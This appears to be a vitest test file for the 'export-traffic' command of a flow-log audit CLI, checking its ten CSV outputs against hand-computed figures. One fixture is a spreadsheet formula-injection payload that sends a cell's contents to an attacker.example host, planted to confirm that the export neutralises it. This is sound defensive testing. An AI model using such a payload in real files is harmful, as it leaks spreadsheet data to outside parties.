/**
 * `sg-flow-audit export-traffic --out DIR`, run in-process through runProgram as src/cli.ts runs
 * it: the ten CSV files with their headers, read back with csv-parse and equal to the JSON report
 * that `analyze` prints for the same inputs; a small account whose every number is worked out by
 * hand; the bundled demo; a rule description that would be a formula; the cut at 1,000 rows; and
 * usage errors as one line with exit 2.
 */
import { mkdtempSync, readdirSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { TRAFFIC_LIST_LIMIT } from '../../src/analysis/traffic.js';
import { renderCsv, RULE_CSV_COLUMNS } from '../../src/report/csv.js';
import {
  ANOMALY_CSV_COLUMNS,
  FINDING_CSV_COLUMNS,
  HOUR_CSV_COLUMNS,
  INTERFACE_CSV_COLUMNS,
  PORT_CSV_COLUMNS,
  PROTOCOL_CSV_COLUMNS,
  REJECTED_PORT_CSV_COLUMNS,
  REJECTED_SOURCE_CSV_COLUMNS,
  SOURCE_CSV_COLUMNS,
} from '../../src/report/traffic-csv.js';
import type { Report } from '../../src/report/types.js';
import { repo } from '../helpers/action.js';
import { ruleId, v2, writeScenario } from '../helpers/scenario.js';
import { cliInProcess, type CliRun } from '../helpers/cli-in-process.js';

/** Every file export-traffic writes, with its header row. */
const HEADERS: Record<string, readonly string[]> = {
  'findings.csv': FINDING_CSV_COLUMNS,
  'rules.csv': RULE_CSV_COLUMNS,
  'traffic-by-source.csv': SOURCE_CSV_COLUMNS,
  'traffic-by-port.csv': PORT_CSV_COLUMNS,
  'traffic-by-protocol.csv': PROTOCOL_CSV_COLUMNS,
  'traffic-by-interface.csv': INTERFACE_CSV_COLUMNS,
  'traffic-by-hour.csv': HOUR_CSV_COLUMNS,
  'rejected-by-port.csv': REJECTED_PORT_CSV_COLUMNS,
  'rejected-by-source.csv': REJECTED_SOURCE_CSV_COLUMNS,
  'anomalies.csv': ANOMALY_CSV_COLUMNS,
};

const INJECTION = '=HYPERLINK("http://attacker.example/?"&A1,"click")';

const cli = cliInProcess;

function scratch(): string {
  return mkdtempSync(join(tmpdir(), 'sgfa-export-traffic-'));
}

/** Parses RFC 4180 text strictly (CRLF rows, every row as wide as the header) into objects. */
function readCsv(dir: string, name: string): Record<string, string>[] {
  return parse(readFileSync(join(dir, name), 'utf8'), {
    columns: true,
    record_delimiter: '\r\n',
    relax_column_count: false,
    bom: false,
  }) as Record<string, string>[];
}

function sum(rows: Record<string, string>[], column: string): number {
  return rows.reduce((total, row) => total + Number(row[column]), 0);
}

/**
 * Exports the inputs into a fresh folder and analyses them again as `analyze --format json`
 * would print them, for the files to be compared with.
 */
async function exportAndAnalyze(inputs: string[]): Promise<{ dir: string; run: CliRun; report: Report }> {
  const dir = join(scratch(), 'out');
  const run = await cli('export-traffic', ...inputs, '--threads', '1', '--out', dir);
  const json = join(scratch(), 'report.json');
  const analyzed = await cli(
    'analyze',
    ...inputs,
    '--threads',
    '1',
    '--fail-on',
    'none',
    '--format',
    'json',
    '--output',
    json,
  );
  expect(analyzed.status, analyzed.stderr).toBe(0);
  return { dir, run, report: JSON.parse(readFileSync(json, 'utf8')) as Report };
}

/** Checks what holds for every export: the ten files, their headers, and their rows against the report. */
function expectFilesMatchReport(dir: string, report: Report): void {
  expect(readdirSync(dir).sort()).toEqual(Object.keys(HEADERS).sort());
  for (const [name, columns] of Object.entries(HEADERS))
    expect(readFileSync(join(dir, name), 'utf8').split('\r\n')[0], name).toBe(columns.join(','));
  const t = report.traffic;
  expect(readCsv(dir, 'traffic-by-source.csv')).toEqual(
    (t.sources ?? []).map((s) => ({
      source: s.address,
      accepted: String(s.accepted),
      rejected: String(s.rejected),
      total: String(s.accepted + s.rejected),
      distinct_ports: String(s.ports),
    })),
  );
  expect(readCsv(dir, 'traffic-by-port.csv')).toEqual(
    (t.ports ?? []).map((p) => ({
      protocol: p.protocol,
      port: String(p.port),
      accepted: String(p.accepted),
      rejected: String(p.rejected),
      total: String(p.accepted + p.rejected),
    })),
  );
  expect(readCsv(dir, 'rejected-by-port.csv')).toEqual(
    (t.rejectedPorts ?? []).map((p) => ({
      protocol: p.protocol,
      port: String(p.port),
      rejected: String(p.flows),
    })),
  );
  expect(readCsv(dir, 'rejected-by-source.csv')).toEqual(
    (t.rejectedSources ?? []).map((s) => ({ source: s.address, rejected: String(s.flows) })),
  );
  // The first rows of the long lists are the report's top-20 lists.
  expect(readCsv(dir, 'rejected-by-source.csv').slice(0, 20)).toEqual(
    t.topRejectedSources.map((s) => ({ source: s.address, rejected: String(s.flows) })),
  );
  const hours = readCsv(dir, 'traffic-by-hour.csv');
  expect(hours.map((h) => [h.start, Number(h.accepted), Number(h.rejected)])).toEqual(
    t.buckets.map((b) => [b.start, b.accepted, b.rejected]),
  );
  for (const h of hours)
    expect(Date.parse(h.end as string) - Date.parse(h.start as string)).toBe(t.bucketSeconds * 1000);
  expect(readFileSync(join(dir, 'rules.csv'), 'utf8')).toBe(renderCsv(report));
  const rules = readCsv(dir, 'rules.csv');
  expect(rules).toHaveLength(report.rules.length);
  for (const rule of report.rules) {
    const row = rules.find((r) => r.rule_id === rule.ruleId);
    expect(row?.flows, rule.ruleId).toBe(String(rule.usage.flows));
    expect(row?.status, rule.ruleId).toBe(rule.status);
  }
  const findings = readCsv(dir, 'findings.csv');
  expect(findings.map((f) => [f.id, f.severity, f.type, f.rule_id, f.title])).toEqual(
    report.findings.map((f) => [f.id, f.severity, f.type, f.ruleId ?? '', f.title]),
  );
  const anomalyTypes = new Set(['port-scan', 'unknown-source', 'traffic-spike']);
  expect(readCsv(dir, 'anomalies.csv').map((a) => a.finding_id)).toEqual(
    report.findings.filter((f) => anomalyTypes.has(f.type)).map((f) => f.id),
  );

  // Sums that must agree whenever no list is cut: every record in one interface row, every
  // accepted and rejected record in one hour, each rejected inbound attempt once per file.
  const interfaces = readCsv(dir, 'traffic-by-interface.csv');
  expect(sum(interfaces, 'records')).toBe(report.input.records);
  expect(sum(hours, 'accepted')).toBe(report.input.accepted);
  expect(sum(hours, 'rejected')).toBe(report.input.rejected);
  const ports = readCsv(dir, 'traffic-by-port.csv');
  const protocols = readCsv(dir, 'traffic-by-protocol.csv');
  const rejected = sum(readCsv(dir, 'rejected-by-port.csv'), 'rejected');
  expect(sum(protocols, 'accepted')).toBe(sum(ports, 'accepted'));
  expect(sum(protocols, 'rejected')).toBe(rejected);
  expect(sum(ports, 'rejected')).toBe(rejected);
  expect(sum(readCsv(dir, 'rejected-by-source.csv'), 'rejected')).toBe(rejected);
  expect(sum(readCsv(dir, 'traffic-by-source.csv'), 'rejected')).toBe(rejected);
}

const HOUR = 3600;
/** The busy hour of the small account, on an hour boundary. */
const BUSY = 1_763_900_000 - (1_763_900_000 % HOUR);

/**
 * A web server with SSH used from an office address in each of five quiet hours, then a busy hour:
 * a scanner tries 30 ports, an address outside the known networks uses HTTPS four times, the web
 * server reaches the database twice and a resolver once, one SNMP attempt is rejected, and an
 * interface the inventory does not have logs one record. A database interface logs nothing.
 */
function smallAccount() {
  const lines = [
    ...Array.from({ length: 5 }, (_, k) =>
      v2('eni-web', '198.51.100.23', '10.0.1.10', 50000 + k, 22, 6, 'ACCEPT', BUSY - (5 - k) * HOUR),
    ),
    ...Array.from({ length: 30 }, (_, k) =>
      v2('eni-web', '185.220.101.45', '10.0.1.10', 51000, 1000 + k, 6, 'REJECT', BUSY + 60),
    ),
    ...Array.from({ length: 4 }, (_, k) =>
      v2('eni-web', '203.0.113.7', '10.0.1.10', 40000 + k, 443, 6, 'ACCEPT', BUSY + 120),
    ),
    ...Array.from({ length: 2 }, (_, k) =>
      v2('eni-db', '10.0.1.10', '10.0.2.20', 45000 + k, 5432, 6, 'ACCEPT', BUSY + 180),
    ),
    v2('eni-web', '10.0.1.10', '10.0.0.2', 46000, 53, 17, 'ACCEPT', BUSY + 240),
    v2('eni-web', '198.51.100.99', '10.0.1.10', 47000, 161, 17, 'REJECT', BUSY + 300),
    v2('eni-gone', '10.0.9.9', '10.0.9.10', 48000, 80, 6, 'ACCEPT', BUSY + 360),
  ];
  const scenario = writeScenario({
    groups: ['sg-web', 'sg-db'],
    rules: [
      { group: 'sg-web', protocol: 'tcp', from: 22, cidr: '0.0.0.0/0' },
      { group: 'sg-web', protocol: 'tcp', from: 443, cidr: '0.0.0.0/0' },
      { group: 'sg-web', egress: true, protocol: '-1', cidr: '0.0.0.0/0' },
      { group: 'sg-db', protocol: 'tcp', from: 5432, ref: 'sg-web' },
      { group: 'sg-db', protocol: 'tcp', from: 3306, cidr: '10.0.0.0/8' },
    ],
    interfaces: [
      { id: 'eni-web', ips: ['10.0.1.10'], groups: ['sg-web'] },
      { id: 'eni-db', ips: ['10.0.2.20'], groups: ['sg-db'] },
      { id: 'eni-idle', ips: ['10.0.2.30'], groups: ['sg-db'] },
    ],
    lines,
  });
  // A description whoever may edit the group chose: a formula a spreadsheet would run.
  const rulesFile = join(scenario.inventory, 'security-group-rules.json');
  const inventory = JSON.parse(readFileSync(rulesFile, 'utf8')) as {
    SecurityGroupRules: Record<string, unknown>[];
  };
  (inventory.SecurityGroupRules[1] as Record<string, unknown>)['Description'] = INJECTION;
  writeFileSync(rulesFile, JSON.stringify(inventory));
  const config = join(scenario.dir, 'config.yml');
  writeFileSync(
    config,
    [
      'min-window: 0',
      'known-networks: [10.0.0.0/8, 198.51.100.0/24]',
      'thresholds: { spike-min-flows: 20, spike-factor: 5 }',
    ].join('\n'),
  );
  return ['--flow-logs', scenario.logs, '--inventory', scenario.inventory, '--config', config];
}

const iso = (seconds: number) => new Date(seconds * 1000).toISOString().replace('.000Z', 'Z');

describe('export-traffic', () => {
  it('writes the small account as ten CSV files whose every number is the one worked out by hand', async () => {
    const { dir, run, report } = await exportAndAnalyze(smallAccount());
    expect(run.status, run.stderr).toBe(0);
    expect(run.stdout).toBe(`wrote 10 CSV files to ${dir}\n`);
    expectFilesMatchReport(dir, report);

    expect(readCsv(dir, 'traffic-by-source.csv').map(Object.values)).toEqual([
      ['185.220.101.45', '0', '30', '30', '30'],
      ['198.51.100.23', '5', '0', '5', '1'],
      ['203.0.113.7', '4', '0', '4', '1'],
      ['10.0.1.10', '2', '0', '2', '1'],
      ['198.51.100.99', '0', '1', '1', '1'],
    ]);
    expect(readCsv(dir, 'traffic-by-port.csv').map(Object.values)).toEqual([
      ['tcp', '22', '5', '0', '5'],
      ['tcp', '443', '4', '0', '4'],
      ['tcp', '5432', '2', '0', '2'],
      ...Array.from({ length: 30 }, (_, k) => ['tcp', String(1000 + k), '0', '1', '1']),
      ['udp', '53', '1', '0', '1'],
      ['udp', '161', '0', '1', '1'],
    ]);
    expect(readCsv(dir, 'traffic-by-protocol.csv').map(Object.values)).toEqual([
      ['tcp', '11', '30', '41'],
      ['udp', '1', '1', '2'],
    ]);
    expect(readCsv(dir, 'traffic-by-interface.csv').map(Object.values)).toEqual([
      ['eni-web', 'true', 'sg-web', '41', '0'],
      ['eni-db', 'true', 'sg-db', '2', '0'],
      ['eni-gone', 'false', '', '1', ''],
      ['eni-idle', 'true', 'sg-db', '0', '0'],
    ]);
    expect(readCsv(dir, 'traffic-by-hour.csv').map(Object.values)).toEqual([
      ...Array.from({ length: 5 }, (_, k) => [
        iso(BUSY - (5 - k) * HOUR),
        iso(BUSY - (4 - k) * HOUR),
        '1',
        '0',
        '1',
      ]),
      [iso(BUSY), iso(BUSY + HOUR), '8', '31', '39'],
    ]);
    expect(readCsv(dir, 'rejected-by-source.csv').map(Object.values)).toEqual([
      ['185.220.101.45', '30'],
      ['198.51.100.99', '1'],
    ]);
    expect(readCsv(dir, 'rejected-by-port.csv').map(Object.values)).toEqual([
      ...Array.from({ length: 30 }, (_, k) => ['tcp', String(1000 + k), '1']),
      ['udp', '161', '1'],
    ]);
    expect(
      readCsv(dir, 'anomalies.csv').map((a) => [
        a.type,
        a.source,
        a.bucket_start,
        a.distinct_ports,
        a.accepted,
        a.rejected,
        a.median_records,
        a.suppressed,
      ]),
    ).toEqual([
      ['port-scan', '185.220.101.45', '', '30', '0', '30', '', 'false'],
      ['unknown-source', '203.0.113.7', '', '', '4', '', '', 'false'],
      ['traffic-spike', '', iso(BUSY), '', '8', '31', '1', 'false'],
    ]);
    expect(report.traffic.lists).toEqual({
      sources: { rows: 5, complete: true },
      ports: { rows: 35, complete: true },
      interfaces: { rows: 4, complete: true },
      rejectedSources: { rows: 2, complete: true },
      rejectedPorts: { rows: 31, complete: true },
    });
  });

  it('neutralises a rule description that is a formula, and keeps the rest of rules.csv as --format csv', async () => {
    const { dir } = await exportAndAnalyze(smallAccount());
    const https = readCsv(dir, 'rules.csv').find((r) => r.rule_id === ruleId(1));
    expect(https?.description).toBe(`'${INJECTION}`);
    expect(https?.flows).toBe('4');
    // No text cell of any file starts with a character a spreadsheet would run.
    for (const name of Object.keys(HEADERS))
      for (const row of readCsv(dir, name))
        for (const cell of Object.values(row))
          expect(cell, `${name}: ${cell}`).not.toMatch(/^[=+@\t\r]|^-[^0-9]/);
    const findings = readCsv(dir, 'findings.csv');
    const ssh = findings.find((f) => f.type === 'open-admin-port');
    expect(ssh).toMatchObject({
      severity: 'critical',
      group_id: 'sg-web',
      group_name: 'sg-web',
      rule_id: ruleId(0),
    });
    expect(ssh?.proposed_change).toBe('replace tcp 22 0.0.0.0/0 → 198.51.100.23/32');
  });

  it('writes the bundled demo with every file equal to the JSON report and the sums in agreement', async () => {
    const demo = join(repo, 'examples', 'demo');
    const { dir, run, report } = await exportAndAnalyze([
      '--flow-logs',
      join(demo, 'logs'),
      '--inventory',
      join(demo, 'inventory'),
      '--config',
      join(demo, 'sg-flow-audit.yml'),
    ]);
    expect(run.status, run.stderr).toBe(0);
    expectFilesMatchReport(dir, report);
    expect(readCsv(dir, 'anomalies.csv').map((a) => a.type)).toContain('port-scan');
    expect(Object.values(report.traffic.lists ?? {}).every((l) => l.complete)).toBe(true);
  });

  it(`keeps the busiest ${TRAFFIC_LIST_LIMIT} sources and says so when there are more`, async () => {
    const sources = TRAFFIC_LIST_LIMIT + 3;
    const scenario = writeScenario({
      groups: ['sg-web'],
      rules: [{ group: 'sg-web', protocol: 'tcp', from: 443, cidr: '0.0.0.0/0' }],
      interfaces: [{ id: 'eni-web', ips: ['10.0.1.10'], groups: ['sg-web'] }],
      // Source i tries port 22 i % 3 + 1 times: ties are broken by address, lowest first.
      lines: Array.from({ length: sources }, (_, i) =>
        Array.from({ length: (i % 3) + 1 }, () =>
          v2(
            'eni-web',
            `172.16.${Math.floor(i / 250)}.${(i % 250) + 1}`,
            '10.0.1.10',
            50000,
            22,
            6,
            'REJECT',
          ),
        ),
      ).flat(),
    });
    const { dir, run, report } = await exportAndAnalyze([
      '--flow-logs',
      scenario.logs,
      '--inventory',
      scenario.inventory,
    ]);
    expect(run.status, run.stderr).toBe(0);
    expect(run.stdout).toBe(
      [
        `wrote 10 CSV files to ${dir}`,
        `  traffic-by-source.csv: the busiest ${TRAFFIC_LIST_LIMIT} of ${sources} rows`,
        `  rejected-by-source.csv: the busiest ${TRAFFIC_LIST_LIMIT} of ${sources} rows`,
        '',
      ].join('\n'),
    );
    expect(report.traffic.lists?.sources).toEqual({ rows: sources, complete: false });
    const bySource = readCsv(dir, 'traffic-by-source.csv');
    expect(bySource).toHaveLength(TRAFFIC_LIST_LIMIT);
    const rejectedBySource = readCsv(dir, 'rejected-by-source.csv');
    expect(rejectedBySource.map((r) => [r.source, r.rejected])).toEqual(
      bySource.map((r) => [r.source, r.rejected]),
    );
    // Every source that tried three times (i % 3 == 2) comes first, then those that tried twice.
    const three = Array.from({ length: sources }, (_, i) => i).filter((i) => i % 3 === 2).length;
    expect(bySource.slice(0, three).every((r) => r.rejected === '3')).toBe(true);
    expect(bySource[three]?.rejected).toBe('2');
    expect(sum(bySource, 'rejected')).toBeLessThan(report.input.rejected);
    // The port list is whole: one port.
    expect(readCsv(dir, 'rejected-by-port.csv').map(Object.values)).toEqual([
      ['tcp', '22', String(report.input.rejected)],
    ]);
  });
});

describe('export-traffic usage errors', () => {
  it('without --out is exit 2 with one line', async () => {
    const run = await cli('export-traffic', '--inventory', join(repo, 'examples', 'demo', 'inventory'));
    expect(run).toEqual({
      status: 2,
      stdout: '',
      stderr: "sg-flow-audit: required option '--out <dir>' not specified (see --help)\n",
    });
  });

  it('an unknown flag is exit 2 with one line', async () => {
    const run = await cli('export-traffic', '--out', scratch(), '--frobnicate', 'x');
    expect(run.status).toBe(2);
    expect(run.stderr).toBe("sg-flow-audit: unknown option '--frobnicate' (see --help)\n");
  });

  it('with nothing to analyze is exit 2 with one line, and writes nothing', async () => {
    const dir = join(scratch(), 'out');
    const run = await cli('export-traffic', '--out', dir);
    expect(run.status).toBe(2);
    expect(run.stderr).toBe(
      'sg-flow-audit: nothing to analyze: give --flow-logs, --inventory, --aggregates or --source (see --help)\n',
    );
    expect(() => readdirSync(dir)).toThrow(/ENOENT/);
  });

  it('an --out that is a file is exit 2 with one line that names it', async () => {
    const file = join(scratch(), 'traffic.csv');
    writeFileSync(file, 'keep me');
    const run = await cli(
      'export-traffic',
      '--inventory',
      join(repo, 'examples', 'demo', 'inventory'),
      '--out',
      file,
    );
    expect(run.status).toBe(2);
    expect(run.stderr).toBe(`sg-flow-audit: --out: ${file} is a file, not a folder\n`);
    expect(readFileSync(file, 'utf8')).toBe('keep me');
  });

  it('--help lists the files and the examples', async () => {
    const run = await cli('export-traffic', '--help');
    expect(run.status).toBe(0);
    expect(run.stdout).toContain('Usage: sg-flow-audit export-traffic [options]');
    expect(run.stdout).toContain(
      '$ sg-flow-audit export-traffic --flow-logs ./AWSLogs --inventory inv --out traffic/',
    );
    expect(run.stdout).toContain(`busiest ${TRAFFIC_LIST_LIMIT} rows`);
  });
});
